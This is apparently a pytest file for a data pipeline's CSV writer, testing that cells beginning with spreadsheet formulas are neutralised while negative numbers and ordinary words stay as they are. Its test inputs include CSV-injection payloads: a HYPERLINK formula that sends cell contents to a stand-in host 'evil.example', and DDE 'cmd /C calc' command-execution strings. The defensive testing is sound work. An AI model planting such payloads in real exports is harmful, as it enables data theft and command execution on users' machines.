import csv
import re

import pytest

from pipeline.cache import Cache
from pipeline.plan import Planned
from pipeline.record import Record
from pipeline.schema import BY_NAME
from pipeline.write.formulas import harmless, is_formula, with_harmless_quotes
from pipeline.write.tables import cells


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=1+1",
        "@SUM(1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-A1",
        "+SUM(A1)",
        "-3.1-2.9",
        "+1+1",
        "-1*(2)",
        "\t=1+1",
        "＝1+1",
        "-3.1=A1",
        "= 5 mg",
    ],
)
def test_formulas_are_known(text):
    assert is_formula(text)
    assert harmless("title", text) == f"'{text}"
    assert harmless("path", text) == f"./{text}"


@pytest.mark.parametrize(
    "text",
    [
        "", "=", "-", "+", "@", "-3.1", "+2", "- 2.4", "-3.1 SD", "-1.8 at one-third radius", "-1.1 (distal",
        "-21; 21", "-91..-84", "-67..-36; 10", "-.5", "calcium = 9", "a@b", " =1", "-2,5 SD", "<=5", "-1e-07",
    ],
)  # fmt: skip
def test_numbers_and_words_stay_as_they_are(text):
    assert not is_formula(text)
    assert harmless("title", text) == text


def rows(*spans: tuple[int, int], text: str) -> dict[str, list[dict[str, object]]]:
    return {"labs": [{"start": start, "end": end, "quote": text[start:end]} for start, end in spans]}


def test_a_quote_grows_to_the_left_until_it_is_no_formula():
    text = "Result\n\n=SUM(A1) and @x more"
    found = rows((8, 16), (21, 23), (0, 6), text=text)
    assert with_harmless_quotes(found, text) == text
    assert [row["quote"] for row in found["labs"]] == ["t\n\n=SUM(A1)", "d @x", "Result"]
    assert all(text[row["start"] : row["end"]] == row["quote"] for row in found["labs"])


def test_a_text_that_begins_with_a_formula_begins_with_a_space_instead():
    text = "=SUM(A1) was written, not 5."
    found = rows((0, 8), (0, 4), (22, 27), text=text)
    changed = with_harmless_quotes(found, text)
    assert changed == " SUM(A1) was written, not 5."
    assert [row["quote"] for row in found["labs"]] == [" SUM(A1)", " SUM", "not 5"]


def test_no_cell_of_an_entry_is_a_formula(tmp_path):
    evil = "=cmd|' /C calc'!A0"
    text = f"{evil}\n\nA woman, {evil} and -3.1 SD."
    case: dict[str, object] = {c.name: evil if c.type == "string" else None for c in BY_NAME["cases"].columns}
    case |= {"doc_id": "a", "case_id": "a-1", "record_id": "r", "source": "text", "sex": "F",
             "origin": "added"}
    case |= {"start": 0, "end": len(evil), "quote": evil}
    document: dict[str, object] = {
        c.name: evil for c in BY_NAME["documents"].columns if c.type == "string" and not c.values
    }
    document |= {"doc_id": "a", "status": "ok", "path": evil}
    record = Record(document, text=text)
    record.rows["cases"] += [case, {**case, "start": text.index("A woman") + 9, "end": text.index(" and")}]
    record.rows["cases"][1]["quote"] = evil
    cache = Cache(tmp_path / "papers", "program")
    cache.prepare()
    with cache.writer("a") as entry:
        entry.add(record)
        entry.commit("")
    (stored,) = cache.read(Planned("a", tmp_path, evil))
    found = [
        *stored.rows["cases"],
        *stored.rows["summary"],
        cells(BY_NAME["documents"], stored.head.document),
    ]
    assert not [cell for row in found for cell in row if is_formula(cell)]
    header = BY_NAME["cases"].header
    for row in stored.rows["cases"]:
        values = dict(zip(header, row, strict=True))
        assert stored.text[int(values["start"]) : int(values["end"])] == values["quote"]
    assert found[-1][BY_NAME["documents"].header.index("path")] == f"./{evil}"


def test_every_word_column_is_covered():
    for table in BY_NAME.values():
        row = {c.name: "=1+1" for c in table.columns if c.type == "string" and not c.values}
        plain = [
            name
            for name, cell in zip(table.header, cells(table, row), strict=True)
            if re.match(r"[=+\-@]", cell)
        ]
        assert set(plain) <= {"quote"}, table.name


def test_a_csv_reader_sees_the_apostrophe_and_no_more(tmp_path):
    row = cells(BY_NAME["documents"], {"title": "=1+1", "journal": "-3.1 SD", "year": -5})
    with (tmp_path / "x.csv").open("w", newline="") as handle:
        csv.writer(handle).writerow(row)
    with (tmp_path / "x.csv").open(newline="") as handle:
        (read,) = csv.reader(handle)
    values = dict(zip(BY_NAME["documents"].header, read, strict=True))
    assert (values["title"], values["journal"], values["year"]) == ("'=1+1", "-3.1 SD", "-5")
